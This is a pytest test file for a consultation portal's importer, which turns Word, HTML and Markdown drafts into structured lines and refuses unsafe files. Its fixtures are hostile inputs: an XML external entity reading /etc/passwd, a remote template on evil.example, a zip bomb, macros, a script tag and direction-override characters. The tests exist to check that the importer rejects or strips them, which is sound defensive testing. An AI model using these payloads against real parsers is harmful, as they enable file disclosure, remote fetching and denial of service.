"""Reading drafts from files: what is read, what is told, what is refused."""

from __future__ import annotations

import io
import random

import pytest
from docx import Document

from portal.consultations.importing import Reading, Unfit, read_file, read_text, report
from portal.consultations.models import Kind
from tests.consultations.documents import RELS, W, docx, item, p, run, table


def shape(found: Reading) -> list[tuple[str, int, str]]:
    return [(str(line.kind), line.level, line.text) for line in found.lines]


def left_out(found: Reading) -> list[str]:
    return report.sentences(found.seen, report.LEFT_OUT)


def odd(found: Reading) -> list[str]:
    return report.sentences(found.seen, report.ODD)


def test_headings_are_told_in_a_word_processor_that_speaks_french() -> None:
    found = read_file("clause.docx", docx(p("Objet", "Titre1"), p("Texte."), p("Livraison", "Mine")))
    assert shape(found) == [("heading", 1, "Objet"), ("text", 0, "Texte."), ("heading", 2, "Livraison")]


def test_a_paragraphs_own_outline_level_counts_before_its_style() -> None:
    level = '<w:outlineLvl w:val="2"/>'
    body = '<w:outlineLvl w:val="9"/>'
    found = read_file("a.docx", docx(p("Deep", properties=level), p("No heading", "Titre1", body)))
    assert shape(found) == [("heading", 3, "Deep"), ("text", 0, "No heading")]


def test_lists_keep_their_depth_and_tables_their_rows() -> None:
    body = (item("one"), item("two", 1), item("off", number=0), p("styled", "Liste"))
    found = read_file("a.docx", docx(*body, table(["Who", "What"], ["A", ""])))
    assert shape(found) == [
        ("item", 1, "one"),
        ("item", 2, "two"),
        ("text", 0, "off"),
        ("item", 1, "styled"),
        ("row", 0, "Who | What"),
        ("row", 0, "A |"),
    ]
    assert "3 lines are numbered" in odd(found)[0]


def test_notes_stand_after_the_text_with_the_number_that_leads_to_them() -> None:
    reference = '<w:r><w:footnoteReference w:id="2"/></w:r>'
    notes = (
        f'<w:footnotes {W}><w:footnote w:id="-1" w:type="separator">{p("---")}</w:footnote>'
        f'<w:footnote w:id="2">{p("As the law says.")}</w:footnote></w:footnotes>'
    )
    data = docx(p(run("Text") + reference), p("After"), parts={"word/footnotes.xml": notes})
    assert shape(read_file("a.docx", data)) == [
        ("text", 0, "Text¹"),
        ("text", 0, "After"),
        ("note", 0, "¹ As the law says."),
    ]


def test_tracked_insertions_are_taken_and_deletions_left_out_and_both_told() -> None:
    changed = (
        run("The contractor ")
        + f'<w:del w:id="1">{"<w:r><w:delText>may</w:delText></w:r>"}</w:del>'
        + f'<w:ins w:id="2">{run("must")}</w:ins>'
        + run(" publish.")
    )
    found = read_file("a.docx", docx(p(changed)))
    assert shape(found) == [("text", 0, "The contractor must publish.")]
    assert left_out(found) == ["1 tracked deletion: its text is not part of the draft."]
    assert odd(found)[0] == "1 tracked insertion was taken over as if it were accepted."


def test_a_deleted_paragraph_mark_joins_two_paragraphs() -> None:
    ended = '<w:rPr><w:del w:id="4"/></w:rPr>'
    found = read_file("a.docx", docx(p("One ", properties=ended), p("and the other.")))
    assert shape(found) == [("text", 0, "One and the other.")]


def test_pictures_objects_hidden_words_and_comments_are_left_out_and_told() -> None:
    comments = f'<w:comments {W}><w:comment w:id="0">{p("Hm.")}</w:comment></w:comments>'
    body = p(
        "<w:r><w:drawing/></w:r><w:r><w:object/></w:r>" + run("secret", "<w:vanish/>") + run("Words."),
    )
    found = read_file("a.docx", docx(body, parts={"word/comments.xml": comments}))
    assert shape(found) == [("text", 0, "Words.")]
    assert left_out(found) == [
        "1 picture.",
        "1 embedded object.",
        "1 run of hidden text.",
        "1 comment in the margin.",
    ]


def test_a_file_that_would_fetch_others_is_read_without_fetching_and_told() -> None:
    fetched = (
        '<Relationship Id="r9" TargetMode="External" Target="http://evil.example/t.dotx" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    found = read_file("a.docx", docx(p("Words."), rels=fetched))
    assert left_out(found) == ["1 reference to another file, which was not opened."]


def test_what_python_docx_writes_is_read() -> None:
    document = Document()
    document.add_heading("Title", 0)
    document.add_heading("Part", 1)
    document.add_paragraph("Text")
    document.add_paragraph("Bullet", style="List Bullet")
    made = io.BytesIO()
    document.save(made)
    assert shape(read_file("a.docx", made.getvalue())) == [
        ("heading", 1, "Title"),
        ("heading", 1, "Part"),
        ("text", 0, "Text"),
        ("item", 1, "Bullet"),
    ]


MACROS = {"word/vbaProject.bin": b"x"}
ENTITY = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def bomb() -> bytes:
    return docx(p("x"), parts={"word/media/zero.bin": b"\0" * 40_000_000})


def encrypted() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def deep() -> bytes:
    return docx("<w:sdt>" * 5000 + p("x") + "</w:sdt>" * 5000)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.docm", docx(p("x")), "macros"),
        ("a.docx", docx(p("x"), parts=MACROS), "macros"),
        ("a.docx", bomb(), "unpacks to far more"),
        ("a.docx", docx(p("x"), parts={f"f{n}": b"" for n in range(2100)}), "unpacks to far more"),
        ("a.docx", deep(), "damaged"),
        ("a.docx", docx(parts={"word/document.xml": f"{ENTITY}<a>&e;</a>"}), "damaged"),
        ("a.docx", docx(p("x"))[:300], "damaged"),
        ("a.docx", b"not a zip", "damaged"),
        ("a.docx", encrypted(), "password"),
        ("a.docx", docx(parts={"word/document.xml": "<a/>"}), "not a Word document"),
        ("a.docx", docx(p(" ")), "no text"),
        ("a.pdf", b"%PDF-1.7", "PDF"),
        ("a.exe", b"MZ", ".docx"),
        ("a.md", b"  \n", "no text"),
    ],
)
def test_a_bad_file_is_refused_in_words(name: str, data: bytes, words: str) -> None:
    with pytest.raises(Unfit, match=words):
        read_file(name, data)


def test_a_damaged_package_never_raises_anything_but_unfit() -> None:
    whole = docx(p("Objet", "Titre1"), table(["a", "b"]))
    chance = random.Random(7)
    for _time in range(300):
        data = bytearray(whole)
        for _byte in range(chance.randrange(1, 6)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        try:
            read_file("a.docx", bytes(data))
        except Unfit:
            continue


def test_a_lying_directory_does_not_fill_the_memory() -> None:
    data = docx(p("x"), parts={"word/styles.xml": "<w:styles/>" + " " * 30_000_000})
    with pytest.raises(Unfit):
        read_file("a.docx", data)


PAGE = """<!doctype html><html><head><title>T</title><style>p{}</style></head><body>
<h1>Purpose</h1>Loose words<p>First <b>bold</b><br>line<script>alert(1)</script><img src=x></p>
<ul><li>one<ol><li>deep</li></ol></li><li><p>two</p></li></ul>
<table><tr><th>Who</th><th>What</th></tr><tr><td>A</td><td>B <i>c</i></td></tr></table>
<p>See <a href="https://example.org/">there</a>.</p>
<section class="footnotes"><ol><li>A note <a href="#r">↩</a></li></ol></section></body></html>"""


def test_a_web_page_is_read_without_what_runs_or_shows() -> None:
    found = read_file("page.html", PAGE.encode())
    assert shape(found) == [
        ("heading", 1, "Purpose"),
        ("text", 0, "Loose words"),
        ("text", 0, "First bold line"),
        ("item", 1, "one"),
        ("item", 2, "deep"),
        ("item", 1, "two"),
        ("row", 0, "Who | What"),
        ("row", 0, "A | B c"),
        ("text", 0, "See there."),
        ("note", 0, "A note"),
    ]
    assert left_out(found) == [
        "1 picture.",
        "The address of 1 link; its words are kept.",
        "2 scripts and styles.",
    ]


@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("words", ["Délivrance", "التسليم", "交付成果", "Поставка"])
def test_encodings_are_told(coding: str, words: str) -> None:
    assert shape(read_file("a.html", f"<p>{words}</p>".encode(coding))) == [("text", 0, words)]


def test_an_encoding_that_the_page_names_is_used_and_one_that_nothing_names_is_told() -> None:
    named = '<meta charset="windows-1256"><p>التسليم</p>'.encode("windows-1256")
    assert shape(read_file("a.html", named)) == [("text", 0, "التسليم")]
    guessed = read_file("a.html", "<p>Délivrance</p>".encode("latin-1"))
    assert shape(guessed) == [("text", 0, "Délivrance")]
    assert "does not say in which encoding" in odd(guessed)[0]


MARKDOWN = """# Purpose

A *first* line[^a]
that goes on.

- one
  - deep

| Who | What |
|---|---|
| A | B |

[^a]: A note.
"""


def test_markdown_is_read_with_its_notes() -> None:
    assert shape(read_text(MARKDOWN, "markdown")) == [
        ("heading", 1, "Purpose"),
        ("text", 0, "A first line¹ that goes on."),
        ("item", 1, "one"),
        ("item", 2, "deep"),
        ("row", 0, "Who | What"),
        ("row", 0, "A | B"),
        ("note", 0, "¹ A note."),
    ]


def test_nesting_without_end_is_survived() -> None:
    try:
        found = read_text("<div>" * 50_000 + "words" + "</div>" * 50_000, "html")
        assert found.lines
    except Unfit:
        pass


def test_the_report_says_what_was_read_and_what_looks_odd() -> None:
    found = read_text("# A\n\n### B\n\nsame\n\nsame\n\n" + "long " * 500, "markdown")
    assert report.read(found) == ["2 headings", "3 paragraphs"]
    assert odd(found) == [
        "1 paragraph is very long; it may be easier to comment on in parts.",
        "1 heading is more than one level below the one before it.",
        "1 paragraph stands twice in the same words.",
    ]


def test_marks_that_turn_the_direction_are_taken_out() -> None:
    assert shape(read_text("a\u202eb\u0000c", "markdown"))[0][2].replace("�", "") == "abc"


def test_an_external_entity_in_a_relationship_file_is_refused() -> None:
    rels = f'{ENTITY}<Relationships xmlns="{RELS}">&e;</Relationships>'
    with pytest.raises(Unfit):
        read_file("a.docx", docx(p("x"), parts={"_rels/.rels": rels}))


def test_the_kinds_of_lines_are_those_of_paragraphs() -> None:
    assert {str(kind) for kind in Kind} == set(map(str, report.READ))
